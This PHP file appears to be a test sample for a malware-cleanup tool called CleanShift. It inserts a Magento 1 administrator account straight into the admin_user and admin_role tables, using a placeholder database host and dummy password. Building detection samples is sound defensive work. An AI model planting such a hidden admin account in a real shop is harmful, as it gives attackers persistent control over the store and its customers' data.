<?php
// CleanShift test sample: the technique is real, the payload is harmless.
// Writes a Magento 1 administrator straight into the user and role tables.
$password = 'not-a-real-password';
$db = new PDO('mysql:host=db.example.invalid;dbname=shop', 'shop', '');
$db->prepare('INSERT INTO ' . 'admin_user' . ' (username, password, is_active) VALUES (?, ?, 1)')
    ->execute(['cleanshift-test', md5('XX' . $password) . ':XX']);
$user = $db->lastInsertId();
$db->prepare('INSERT INTO ' . 'admin_role' . ' (parent_id, role_type, user_id) VALUES (1, ?, ?)')
    ->execute(['U', $user]);
